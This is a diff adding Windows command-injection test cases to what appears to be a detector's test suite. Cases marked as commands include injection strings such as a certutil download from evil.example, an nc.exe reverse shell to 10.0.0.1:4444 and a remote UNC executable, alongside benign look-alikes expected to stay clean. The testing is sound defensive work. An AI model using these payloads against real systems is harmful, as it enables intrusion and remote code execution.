@@ -1660,3 +1660,19 @@ describe('cmdi session 20 (rtc23): ${x:-w} ${x=w} ${x+w} expand to their word; $
   });
   it.each(['port=${PORT:-8080}', 'image: ${IMAGE:-app}', 'x;${x:-default}', 'a$(:)b', 'line one \\\nline two', 'C:\\dir\\\nnext'])('%s stays clean', expectNoCmdi);
 });
+
+describe("cmdi session 20 (rtc23): cmd.exe reads a switch glued to the command word after & | newline (whoami/all, cmd/c)", () => {
+  it.each(['x&cmd/c whoami', 'x&whoami/all', 'x&ipconfig/all', 'x|whoami/all', 'x&&cmd/c whoami', 'x&dir/s/b c:\\',
+    'x&certutil/urlcache/f http://evil.example/x x.exe', 'x&powershell/c whoami', 'x&cmd/c"whoami"'])('%s is a command', expectCmdi);
+  // a path goes on after the segment (bin/x.sh, cat/dogfood.png); a ';' is no cmd.exe separator; a word of digits is no switch
+  it.each(['x&bin/x.sh', 'R&D/IT', 'Tom & Jerry/Cartoons', 'x;whoami/all', 'x&cat/dogfood.png', 'x&dir/2024', 'Q&A/help-center'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 20 (rtc23): a Windows absolute or UNC path after & | newline runs the program it names', () => {
+  it.each(['x&c:\\windows\\system32\\whoami', 'x&C:\\Windows\\System32\\certutil.exe -urlcache -f http://evil.example/x x.exe',
+    'x&c:/windows/system32/whoami', 'x&\\\\evil.example\\share\\x.exe', 'x|C:\\tools\\nc.exe -e cmd 10.0.0.1 4444',
+    'x\nc:\\users\\public\\a.bat', 'x&C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe whoami'])('%s is a command', expectCmdi);
+  // a document, a folder or a path mentioned after ';' or in prose; C:\Program Files\x.exe unquoted runs C:\Program (split at the space)
+  it.each(['Docs & C:\\Users\\me\\notes.txt', 'Saved to: C:\\Temp\\x.exe', 'x&c:\\temp', 'Paths & c:\\windows\\system32',
+    'x&\\\\fileserver\\shared\\Finance', 'x&C:\\Program Files\\app.exe', 'x;c:\\tools\\app.exe'])('%s stays clean', expectNoCmdi);
+});
